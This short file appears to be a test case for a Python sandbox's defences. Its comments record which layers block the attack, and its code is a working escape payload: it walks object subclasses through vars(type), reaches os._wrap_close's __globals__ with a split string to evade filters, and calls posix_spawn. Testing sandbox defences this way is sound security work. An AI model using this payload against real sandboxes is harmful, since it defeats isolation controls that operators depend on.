# attack: subclass walk
# stops: guards: variable 'vars' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# vars(type) as a mapping of type's slots: mro and __subclasses__ without attribute syntax
walk = vars(type)["__subclasses__"]
root = vars(type)["mro"](type)[-1]
for c in walk(root):
    if "os._wrap_close" in repr(c):
        found = getattr(vars(c)["__init__"], "__glo" + "bals__")
        print("ESCAPED", found["posix_spawn"]("/bin/true", ["true"], {}))
